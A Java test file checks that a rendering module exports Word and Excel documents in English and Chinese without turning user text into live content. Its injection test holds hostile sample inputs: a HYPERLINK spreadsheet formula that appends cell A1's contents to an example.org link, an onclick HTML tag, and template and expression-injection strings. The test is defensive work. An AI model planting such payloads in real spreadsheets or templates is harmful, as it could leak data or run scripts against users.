package io.closedloop.rendering;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.closedloop.document.DocumentText;
import io.closedloop.document.Documents;
import io.closedloop.document.WordedDocument;
import io.closedloop.refusal.Refusal;
import io.closedloop.support.Inputs;
import io.closedloop.support.Journey;
import io.closedloop.support.ProcessTest;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFTableCell;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

@ProcessTest
class OfficeFilesTest {

    private static final String FORMULA = "=HYPERLINK(\"http://example.org/\"&A1,\"点击\")";
    private static final String MARKUP = "<b onclick='x'>粗</b> & {{title}} ${7*7}";

    @Autowired
    Journey journey;

    @Autowired
    Inputs inputs;

    @Autowired
    Documents documents;

    @Autowired
    DocumentText text;

    @Autowired
    Renderings renderings;

    @Test
    void wordFilesSayWhatIsStoredInBothLanguages() throws IOException {
        String number = journey.delivering()
                .through("conductAcceptance", "archiveRequirement")
                .number();
        for (String kind : List.of("registration-form", "handling-plan", "task-breakdown", "acceptance-form")) {
            for (Locale language : List.of(Locale.ENGLISH, Locale.CHINESE)) {
                var document = documents.latest(number, kind).orElseThrow();
                WordedDocument worded = text.document(document, language);
                byte[] docx = renderings.docx(document, language);

                assertThat(cells(docx))
                        .as("%s in %s", kind, language)
                        .containsExactlyElementsOf(Stream.concat(
                                        worded.rows().stream().flatMap(row -> Stream.of(row.label(), row.value())),
                                        worded.tables().stream()
                                                .flatMap(table -> Stream.concat(
                                                        table.columns().stream(),
                                                        table.rows().stream().flatMap(List::stream))))
                                .toList());
                assertThat(everything(docx)).contains(worded.title(), number).doesNotContain("{{");
            }
        }
    }

    @Test
    void textOfUsersStaysText() throws IOException {
        String number = journey.confirmed()
                .complete("breakDownTasks", "workItems", Inputs.json("""
                        [{"name":"=HYPERLINK(\\"http://example.org/\\"&A1,\\"点击\\")","owner":"execution-team","plannedStart":"%1$s","plannedEnd":"%1$s",
                          "deliverable":"<b onclick='x'>粗</b> & {{title}} ${7*7}","remarks":"+1+1"},
                         {"name":"2026-02-30","owner":"execution-team","plannedStart":"%1$s","plannedEnd":"%1$s","deliverable":"粗"}]
                        """.formatted(inputs.today())))
                .number();
        var document = documents.latest(number, "task-breakdown").orElseThrow();

        try (XSSFWorkbook workbook =
                new XSSFWorkbook(new ByteArrayInputStream(renderings.xlsx(document, Locale.CHINESE)))) {
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getSheetName()).isEqualTo("任务分解清单");
            Row row = sheet.getRow(4);
            assertThat(row).extracting(Cell::getCellType).doesNotContain(CellType.FORMULA);
            assertThat(row.getCell(1).getStringCellValue()).isEqualTo(FORMULA);
            assertThat(row.getCell(1).getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(row.getCell(3).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(inputs.today());
            assertThat(row.getCell(7).getStringCellValue()).isEqualTo(MARKUP);
            assertThat(row.getCell(8).getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(sheet.getRow(5).getCell(1).getStringCellValue()).isEqualTo("2026-02-30");
            assertThat(sheet.getRow(3))
                    .extracting(Cell::getStringCellValue)
                    .containsExactly("需求编号", "任务名称", "负责人", "计划开始日期", "计划完成日期", "实际完成日期", "进度状态", "交付物", "备注");
        }
        assertThat(cells(renderings.docx(document, Locale.ENGLISH))).contains(FORMULA, MARKUP, "+1+1");
        Files.createDirectories(Path.of("target/rendered"));
        Files.write(Path.of("target/rendered/hostile.xlsx"), renderings.xlsx(document, Locale.CHINESE));
        Files.write(Path.of("target/rendered/hostile.docx"), renderings.docx(document, Locale.ENGLISH));
    }

    @Test
    void aDocumentWithoutListIsNoWorkbook() {
        String number = journey.confirmed().number();

        assertThatThrownBy(() -> renderings.xlsx(
                        documents.latest(number, "handling-plan").orElseThrow(), Locale.ENGLISH))
                .isInstanceOf(Refusal.class)
                .hasMessage("Requirement handling plan has no list to put into a workbook.");
    }

    private static List<String> cells(byte[] docx) throws IOException {
        List<String> cells = new ArrayList<>();
        try (XWPFDocument document = new XWPFDocument(new ByteArrayInputStream(docx))) {
            document.getTables()
                    .forEach(table -> table.getRows()
                            .forEach(row -> row.getTableCells().stream()
                                    .map(XWPFTableCell::getText)
                                    .forEach(cells::add)));
        }
        return cells;
    }

    private static String everything(byte[] docx) throws IOException {
        StringBuilder all = new StringBuilder();
        try (XWPFDocument document = new XWPFDocument(new ByteArrayInputStream(docx))) {
            document.getParagraphs().forEach(paragraph -> all.append(paragraph.getText()));
            document.getHeaderList().forEach(header -> all.append(header.getText()));
            document.getFooterList().forEach(footer -> all.append(footer.getText()));
        }
        return all.toString();
    }
}
